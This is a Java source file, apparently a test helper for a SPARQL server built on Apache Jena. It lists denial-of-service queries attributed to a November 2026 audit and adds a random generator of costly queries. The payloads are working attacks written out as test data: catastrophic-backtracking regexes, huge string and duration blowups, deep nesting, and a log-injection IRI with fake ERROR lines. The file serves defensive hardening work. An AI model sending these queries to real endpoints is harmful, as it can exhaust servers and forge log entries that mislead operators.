package org.airiskgraph.server;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Queries and requests that try to take a server down: those of the audit of November 2026, and generated ones. */
final class Attacks {
  private static final String XSD = "PREFIX xsd: <http://www.w3.org/2001/XMLSchema#> ";

  /** Each row of it has a text of 180,000 bytes. */
  private static final String LONG = " ?s ?p ?o BIND('" + "a".repeat(90_000) + "\u0101' AS ?a) ";

  /** Those of both audits, each with neighbors. */
  static final List<String> AUDIT = List.of(
      "ASK { FILTER(REGEX('', '(?:^{2000000000}){2000000000}')) }",
      "SELECT (REPLACE('a', '(?:${1000}){1000}', '') AS ?x) {}",
      "ASK { FILTER(REGEX('" + "a".repeat(5000) + "', '" + "(|)".repeat(100) + "x')) }",
      "ASK { ?s <p>{100000} ?o }",
      "SELECT * { ?s ?p 1" + ",1".repeat(90_000) + " }",
      "ASK { {}" + " UNION {}".repeat(10_000) + " }",
      XSD + "ASK { BIND('00:00:00'^^xsd:time + 'PT10000000000000000000S'^^xsd:dayTimeDuration AS ?x) }",
      XSD + "ASK { BIND('2020-01-01T00:00:00'^^xsd:dateTime + STRDT(CONCAT('PT1000000', '00000000S'), xsd:dayTimeDuration) AS ?x) }",
      XSD + "SELECT (xsd:integer(?s)" + " + xsd:integer(?s)".repeat(99) + " AS ?x) { BIND('" + "9".repeat(150_000)
          + "' AS ?s) }",
      "ASK { ?s ?p ?o . ?t ?q ?r . ?s <http://jena.apache.org/text#query> (<x:y> 'x') }",
      "SELECT (GROUP_CONCAT(STR(?c); separator='" + "x".repeat(100_000) + "') AS ?x) { ?a ?b ?c }",
      "SELECT ?s { ?s ?p ?o BIND(REPLACE('" + "a".repeat(63) + "', 'a', '" + "y".repeat(900)
          + "') AS ?b) } LIMIT 99999",
      "SELECT (<urn:airiskgraph:replace>('aaa', 'a', 'bbb') AS ?x) {}",
      "ASK { ?s <http://e/\\u001b[31m\\u000d\\u000a[main] ERROR FAKE> ?o }",
      "SELECT * { ?s ?p ?o"
          + IntStream.range(0, 300).mapToObj(i -> " BIND('' AS ?v" + i + ")").collect(Collectors.joining())
          + " } LIMIT 20000",
      "SELECT (CONTAINS('" + "a".repeat(100_000) + "', '" + "a".repeat(50_000) + "b') AS ?x) {}",
      "SELECT * { ?s ?p ?o } LIMIT 100000",
      "ASK { FILTER(REGEX('', '(?:(?:a{1000}){1000}){1000}[(]')) }",
      "SELECT (<http://www.w3.org/2005/xpath-functions#contains>(?g, CONCAT(?h, 'b')) AS ?x) {"
          + longText("g", 90_000) + longText("h", 40_000) + " }",
      "SELECT (COUNT(DISTINCT CONCAT(?a, STR(?s))) AS ?n) {" + LONG + "}",
      "SELECT (COUNT(*) AS ?n) {" + LONG + "} GROUP BY (CONCAT(?a, STR(?s)) AS ?k)",
      "SELECT (SAMPLE(CONCAT(?a, STR(?s))) AS ?n) {" + LONG + "} GROUP BY ?s",
      "SELECT * {" + LONG + "BIND(CONCAT(?a, ?a, STR(?s)) AS ?b) } ORDER BY ?s LIMIT 999",
      "SELECT (COUNT(*) AS ?n) { { SELECT DISTINCT ?s {" + LONG + "BIND(CONCAT(?a, STR(?s)) AS ?b) } } }",
      "SELECT * { VALUES ("
          + IntStream.range(0, 25_000).mapToObj(i -> "?v" + i).collect(Collectors.joining(" ")) + ") {} }",
      "ASK { ?s <http://jena.apache.org/text#query> '"
          + IntStream.range(1000, 2000).mapToObj(i -> "algo" + i + "~2").collect(Collectors.joining(" ")) + "' }",
      "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o } LIMIT 100000",
      "ASK { ?s ?p ?o " + "FILTER NOT EXISTS { ?s ?p ?o ".repeat(60) + "} ".repeat(61),
      "ASK { ?s ?p ?o " + "OPTIONAL { ?s ?p ?o FILTER EXISTS { ?s ?p ?o ".repeat(4) + "} } ".repeat(4) + "}",
      "ASK { " + "\\u007B ?s ?p ?o OPTIONAL ".repeat(5000) + "{} " + "\\u007D ".repeat(5001),
      longCall("UCASE(?t)", "\u0149"), longCall("LCASE(?t)", "\u0130"), longCall("STRLANG('a', ?t)", "\u0130"),
      longCall("IRI(?t)", "\u0130"), longCall("IRI(?t)", "../"), longCall("LANGMATCHES(?t, ?t)", "a-"),
      longCall("<http://www.w3.org/2005/xpath-functions#collation-key>(?t, ?t)", "\u03a3"),
      longCall("<http://www.w3.org/2005/xpath-functions#normalize-unicode>(?t, ?t)", "\u0130"),
      longCall("<http://www.w3.org/2005/xpath-functions#upper-case>(?t)", "\u00df"),
      "SELECT (<http://www.w3.org/2005/xpath-functions#round>(1.5, 100000000) AS ?x) {}",
      "SELECT (STRLEN(" + "STRBEFORE(".repeat(190) + "'abc'" + ", 'c')".repeat(190) + ") AS ?n) { ?s ?p ?o }",
      "SELECT DISTINCT * { " + IntStream.range(0, 8).mapToObj(i -> "VALUES ?v" + i + " { "
          + IntStream.range(0, 200).mapToObj(Integer::toString).collect(Collectors.joining(" ")) + " } ")
          .collect(Collectors.joining()) + "}",
      "SELECT * { VALUES (?a ?b) { " + "(UNDEF UNDEF) ".repeat(5000) + "} VALUES (?a ?b) { "
          + "(UNDEF UNDEF) ".repeat(5000) + "} }",
      "SELECT * { ?s ?p ?o" + IntStream.range(0, 600).mapToObj(i -> " BIND(STRUUID() AS ?x" + i + ")")
          .collect(Collectors.joining()) + " } ORDER BY ?x599",
      "BASE <a/> ".repeat(9000) + "ASK {}", "PREFIX a: <http://a/" + "b".repeat(90_000) + "> ASK { FILTER(?x IN ("
          + IntStream.range(0, 9000).mapToObj(i -> "a:" + i).collect(Collectors.joining(",")) + ")) }",
      "BASE <http://a/" + "b/".repeat(45_000) + "> ASK { VALUES ?x { "
          + IntStream.range(0, 9000).mapToObj(i -> "<" + i + ">").collect(Collectors.joining(" ")) + " } }",
      "CONSTRUCT { " + "[] <p:x> [] . ".repeat(900) + "} WHERE { ?s ?p ?o }", "DESCRIBE * { ?s ?p ?o }",
      "ASK { VALUES ?x { " + "true".repeat(45_000) + " } }", existsBesideUnions(100, 4),
      longCall("<http://www.w3.org/2005/xpath-functions#normalize-unicode>(?t)", "\u0301"),
      "ASK { ?s <http://jena.apache.org/text#query> '/(b*a){400}b*&(a*b){400}a*/' }",
      "#\rASK { " + IntStream.range(0, 998).mapToObj(i -> "{ ?a" + i + " a ?b" + i + " FILTER(1) } ")
          .collect(Collectors.joining()) + "}");

  /** Jena copies what is in EXISTS into each part of the UNION beside it. */
  private static String existsBesideUnions(int parts, int depth) {
    String union =
        IntStream.range(0, parts).mapToObj(i -> "{ ?x a " + i + " }").collect(Collectors.joining(" UNION "));
    return "ASK { " + (union + " FILTER EXISTS { ").repeat(depth) + union + " }".repeat(depth + 1);
  }

  /** A call with a text of 900,000 characters. */
  private static String longCall(String call, String part) {
    return "SELECT (STRLEN(STR(" + call + ")) AS ?n) { BIND('" + part.repeat(90_000 / part.length())
        + "' AS ?a) BIND(CONCAT(?a, ?a, ?a, ?a, ?a, ?a, ?a, ?a, ?a) AS ?t) }";
  }

  private static String longText(String name, int rows) {
    return " { SELECT (GROUP_CONCAT('aaaaaaaaa'; separator='a') AS ?" + name + ") { SELECT * { ?s ?p ?o } LIMIT " + rows
        + " } }";
  }

  private final Random dice;

  Attacks(long seed) {
    dice = new Random(seed);
  }

  /** Queries from a small grammar of expensive operations: products, sorting, grouping, joining, long texts. */
  List<String> generated(int count) {
    List<String> queries = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      queries.add(query(2));
    }
    return queries;
  }

  private String query(int depth) {
    String pattern = group(depth);
    return switch (dice.nextInt(9)) {
      case 0 -> "SELECT (COUNT(*) AS ?n) { " + pattern + " }";
      case 1 -> "SELECT DISTINCT * { " + pattern + " }";
      case 2 -> "SELECT * { " + pattern + " } ORDER BY " + expression(depth) + " ?a0";
      case 3 -> "SELECT ?a0 ?c1 (GROUP_CONCAT(STR(?c0)) AS ?x) { " + pattern + " } GROUP BY ?a0 ?c1";
      case 4 -> "SELECT (COUNT(DISTINCT " + expression(depth) + ") AS ?n) { " + pattern + " }";
      case 5 -> "CONSTRUCT { ?a0 <p:x> ?x } WHERE { " + pattern + " BIND(" + expression(depth) + " AS ?x) }";
      case 6 -> "SELECT ?a0 { " + pattern + " } GROUP BY ?a0 ?a1 ?c0 ?c1 HAVING(COUNT(*) > 1)";
      case 7 -> "SELECT (MAX(" + expression(depth) + ") AS ?n) { " + pattern + " } GROUP BY ?c0 ?c1";
      default -> "SELECT * { " + pattern + " FILTER(" + expression(depth) + " = " + expression(depth) + ") }";
    };
  }

  private String group(int depth) {
    String triples = IntStream.rangeClosed(0, dice.nextInt(3)).mapToObj(i -> "?a" + i + " ?b" + i + " ?c" + i + " . ")
        .collect(Collectors.joining());
    if (depth == 0) {
      return triples;
    }
    return switch (dice.nextInt(8)) {
      case 0 -> "{ " + triples + "} { " + group(depth - 1) + " }";
      case 1 -> triples + "OPTIONAL { " + group(depth - 1) + " }";
      case 2 -> triples + "MINUS { " + group(depth - 1) + " }";
      case 3 -> "{ " + triples + "} UNION { " + group(depth - 1) + " }";
      case 4 -> triples + "FILTER NOT EXISTS { ?a0 ((!<p:a>|^!<p:a>)*)* ?c1 }";
      case 5 -> triples + "{ SELECT * { " + group(depth - 1) + " } ORDER BY ?c0 }";
      case 6 -> "{ SELECT (GROUP_CONCAT(STR(?c0)) AS ?c0) { " + group(depth - 1) + " } GROUP BY ?b0 } " + triples;
      default -> triples + "BIND(" + expression(depth) + " AS ?x" + depth + ")";
    };
  }

  private String expression(int depth) {
    if (depth == 0) {
      return dice.nextBoolean() ? "STR(?c0)" : "'" + "z".repeat(1 + dice.nextInt(5000)) + "'";
    }
    String inner = expression(depth - 1);
    return switch (dice.nextInt(8)) {
      case 0 -> "CONCAT(" + inner + ", " + expression(depth - 1) + ")";
      case 1 -> "REPLACE(" + inner + ", '[a-z]', '" + "y".repeat(1 + dice.nextInt(200)) + "')";
      case 2 -> "ENCODE_FOR_URI(" + inner + ")";
      case 3 -> "REGEX(" + inner + ", '(a*)*(b|c|)*(x+x+)+y')";
      case 4 -> "SHA512(" + inner + ")";
      case 5 -> "SUBSTR(" + inner + ", 2)";
      case 6 -> "(STRLEN(" + inner + ") * " + "9".repeat(1 + dice.nextInt(900)) + ")";
      default -> "CONTAINS(" + inner + ", " + expression(depth - 1) + ")";
    };
  }
}
